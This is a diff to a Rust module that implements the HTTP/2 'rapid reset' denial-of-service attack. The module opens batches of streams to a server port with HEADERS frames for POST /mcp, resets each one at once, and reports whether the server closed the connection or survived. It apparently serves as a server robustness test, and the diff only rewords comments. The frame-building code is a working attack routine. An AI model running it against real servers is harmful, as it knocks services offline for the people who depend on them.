@@ -1,4 +1,4 @@
-//! HTTP/2 rapid reset: thousands of streams that are opened and reset at once.
+//! The HTTP/2 "rapid reset" attack: opens thousands of streams and resets each at once.
 
 use crate::{
     exchange::{Piece, Status, connect},
@@ -10,7 +10,7 @@ use std::{
 };
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-/// The number of streams in one write.
+/// The number of streams that are sent in one write.
 const TOGETHER: u32 = 100;
 
 const HEADERS: u8 = 1;
@@ -27,9 +27,9 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// Returns the frames: preface, settings, then `HEADERS` and `RST_STREAM` for each stream.
+/// Returns the bytes to send: the HTTP/2 preface and settings, then `HEADERS` and `RST_STREAM` for each stream.
 fn pieces(count: usize) -> impl Iterator<Item = Piece> {
-    // POST, http, `/mcp` and a host, from the static table and two literals.
+    // The header block in HPACK: method POST, scheme http, path `/mcp` and a host.
     let mut block = vec![0x83, 0x86, 0x04, 4];
     block.extend_from_slice(b"/mcp");
     block.extend_from_slice(&[0x01, 9]);
@@ -40,7 +40,7 @@ fn pieces(count: usize) -> impl Iterator<Item = Piece> {
         let numbers = batch * TOGETHER..((batch + 1) * TOGETHER).min(streams);
         let frames = numbers.flat_map(|number| {
             let stream = number * 2 + 1;
-            // END_HEADERS; CANCEL.
+            // Flag 4 is END_HEADERS, and error code 8 is CANCEL.
             let mut both = frame(HEADERS, 4, stream, &block);
             both.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
             both
@@ -50,11 +50,11 @@ fn pieces(count: usize) -> impl Iterator<Item = Piece> {
     std::iter::once((start, Duration::ZERO)).chain(batches)
 }
 
-/// Opens and resets the streams; a server may close the connection or survive it.
+/// Opens and resets the streams. The server may close the connection, or keep it open and continue to work.
 pub(super) fn rapid_reset(port: u16, count: usize, limit: Duration) -> Status {
     let Ok(mut stream) = connect(port) else { return Status::Closed };
     let end = now() + limit;
-    // A server that does not read must not block this thread.
+    // Limits the time of writes, because the server may not read.
     if stream.set_write_timeout(Some(limit)).is_err() {
         return Status::Closed;
     }
@@ -75,7 +75,8 @@ pub(super) fn rapid_reset(port: u16, count: usize, limit: Duration) -> Status {
             Ok(0) => return Status::Closed,
             Ok(count) => seen.extend_from_slice(&buffer[..count]),
             Err(error) if matches!(error.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
-                // Quiet and open: the server survived it, if it supports HTTP/2 at all.
+                // The connection is open and silent: the server survived the attack, or waits for more because it has
+                // no HTTP/2.
                 return if seen.is_empty() { Status::Silent } else { spoken(&seen) };
             }
             Err(_) => return Status::Closed,
@@ -84,7 +85,7 @@ pub(super) fn rapid_reset(port: u16, count: usize, limit: Duration) -> Status {
     spoken(&seen)
 }
 
-/// Returns the reply of a server that is still open.
+/// Returns the status in the bytes of a server that keeps the connection open.
 fn spoken(mut bytes: &[u8]) -> Status {
     if let Some(status) = bytes.strip_prefix(b"HTTP/1.1 ").and_then(|rest| rest.get(..3)) {
         let status = std::str::from_utf8(status).ok().and_then(|status| status.parse().ok());
